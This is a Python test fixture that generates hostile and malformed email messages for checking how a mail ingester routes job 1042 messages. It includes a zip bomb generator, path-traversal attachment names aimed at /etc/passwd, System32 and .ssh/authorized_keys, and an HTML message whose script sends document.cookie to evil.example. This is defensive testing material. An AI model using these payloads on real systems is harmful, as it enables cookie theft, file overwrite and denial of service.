"""A corpus of hostile mail: each entry a name and the raw bytes a broken client, a spammer or an attacker sends.

Entries whose subject carries job number 1042 must end attached to that job; the others must end in a case.
Large entries are built here, not stored, to keep the repository small.
"""

from __future__ import annotations

import base64
import io
import zipfile

HEAD = (b"From: Dana Ruiz <dana@acme.example>\r\nTo: field@acme.example\r\n"
        b"Date: Mon, 02 Nov 2026 15:00:00 +0000\r\n")


def _message(number: int, subject: bytes, rest: bytes) -> bytes:
    return HEAD + b"Message-ID: <hostile" + str(number).encode() + b"@van.acme.example>\r\nSubject: " + subject + b"\r\n" + rest


def _zip_bomb() -> bytes:
    """64 MiB of zeros deflated to about 64 KiB: harmless unless someone unpacks it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as entry:
            chunk = bytes(1 << 20)
            for _ in range(64):
                entry.write(chunk)
    return buffer.getvalue()


def _attachment(boundary: bytes, name_header: bytes, data: bytes, media_type: bytes = b"application/octet-stream") -> bytes:
    return (b"--" + boundary + b"\r\nContent-Type: " + media_type + b"\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; " + name_header + b"\r\n\r\n" + base64.encodebytes(data) + b"\r\n")


def _multipart(number: int, subject: bytes, *parts: bytes, boundary: bytes = b"BOUND") -> bytes:
    body = b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" + b"".join(parts)
    return _message(number, subject, b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"" + boundary
                    + b"\"\r\n\r\n" + body + b"--" + boundary + b"--\r\n")


def _nested(number: int, depth: int) -> bytes:
    body = b"Content-Type: text/plain\r\n\r\nWO-1042 deep inside.\r\n"
    for level in range(depth):
        boundary = b"L" + str(level).encode()
        body = (b"Content-Type: multipart/mixed; boundary=\"" + boundary + b"\"\r\n\r\n--" + boundary + b"\r\n" + body
                + b"\r\n--" + boundary + b"--\r\n")
    return _message(number, b"WO-1042 nested", b"MIME-Version: 1.0\r\n" + body)


def hostile_corpus() -> dict[str, bytes]:
    """name -> raw message. Names ending in ``_1042`` must be attached to job 1042; the rest must become cases."""
    return {
        "missing_boundary_1042": _message(1, b"WO-1042 photos", b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\n"
                                          b"--nothing\r\nContent-Type: text/plain\r\n\r\nGauges read fine.\r\n"),
        "boundary_never_closed_1042": _message(2, b"WO-1042 readings", b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed;"
                                               b" boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nHalf a message"),
        "broken_base64_1042": _message(3, b"WO-1042 sign-off", b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
                                       b"boundary=\"B\"\r\n\r\n--B\r\nContent-Type: image/jpeg\r\nContent-Transfer-Encoding:"
                                       b" base64\r\nContent-Disposition: attachment; filename=\"sig.jpg\"\r\n\r\n"
                                       b"/9j/4AAQ=====!!!not base64###\r\n--B--\r\n"),
        "wrong_charset_1042": _message(4, b"WO-1042 caf\xe9", b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8"
                                       b"\r\n\r\nPaid at the caf\xe9 \xe0 c\xf4t\xe9.\r\n"),
        "unknown_charset_1042": _message(5, b"=?x-klingon?Q?WO-1042_Qapla?=", b"MIME-Version: 1.0\r\nContent-Type: "
                                         b"text/plain; charset=x-klingon\r\n\r\nWO-1042 \xff\xfe done.\r\n"),
        "eight_bit_headers_1042": HEAD.replace(b"Dana Ruiz", b"D\xc3\xa1na R\xfciz") + b"Message-ID: <hostile6@van.acme"
                                  b".example>\r\nSubject: WO-1042 \xe2\x9c\x93 \xff\xfe fini\r\n\r\nDone.\r\n",
        "enormous_subject_1042": _message(7, b"WO-1042 " + b"A" * 1_000_000, b"\r\nLong subject.\r\n"),
        "ten_thousand_headers": _message(8, b"no job here", b"".join(b"X-Spam-%d: %d\r\n" % (i, i) for i in range(10_000))
                                         + b"\r\nHeaders galore.\r\n"),
        "deeply_nested_1042": _nested(9, 300),
        "zip_bomb_1042": _multipart(10, b"WO-1042 logs", _attachment(b"BOUND", b"filename=\"logs.zip\"", _zip_bomb(),
                                                                     b"application/zip")),
        "path_traversal_names_1042": _multipart(
            11, b"WO-1042 files",
            _attachment(b"BOUND", b"filename=\"../../../../etc/passwd\"", b"root:x:0:0"),
            _attachment(b"BOUND", b"filename=\"..\\\\..\\\\Windows\\\\System32\\\\evil.dll\"", b"MZ\x90\x00"),
            _attachment(b"BOUND", b"filename*=utf-8''photo%00.jpg%00.exe", b"\xff\xd8\xff\xe0 not really"),
            _attachment(b"BOUND", b"filename=\"/absolute/.ssh/authorized_keys\"", b"ssh-rsa AAAA"),
        ),
        "html_script_and_remote_images_1042": _message(
            12, b"WO-1042 report", b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            b"<html><head><script>fetch('http://evil.example/steal?c='+document.cookie)</script></head><body>"
            b"<p onclick=\"alert(1)\">Unit serviced.</p><img src=\"http://tracker.example/pixel.gif\">"
            b"<iframe src=\"javascript:alert(2)\"></iframe></body></html>\r\n"),
        "not_mail_at_all": bytes(range(256)) * 64,
        "empty": b"",
        "insane_date_and_ids": HEAD.replace(b"Mon, 02 Nov 2026 15:00:00 +0000", b"Mon, 99 Foo 99999 99:99:99 +9999")
                               + b"Message-ID: <" + b"x" * 20_000 + b">\r\nIn-Reply-To: <<<>>>\r\nSubject: hello\r\n\r\nHi\r\n",
        "broken_encoded_word_name": _multipart(16, b"=?utf-8?B?!!!?= invoice",
                                               _attachment(b"BOUND", b"filename*=x-unknown''%ZZ%ZZ.pdf", b"%PDF-1.4")),
        "nested_broken_rfc822_1042": _multipart(17, b"WO-1042 forwarded", b"--BOUND\r\nContent-Type: message/rfc822\r\n\r\n"
                                                b"Subject: =?broken\r\nContent-Type: multipart/alternative\r\n\r\nno "
                                                b"boundary at all\r\n"),
        "long_media_type_and_sender_1042": _multipart(
            18, b"WO-1042 odd types", _attachment(b"BOUND", b"filename=\"a.bin\"", b"data", b"application/" + b"x" * 400)
        ).replace(b"dana@acme.example>", b"dana" + b"a" * 400 + b"@acme.example>", 1),
    }
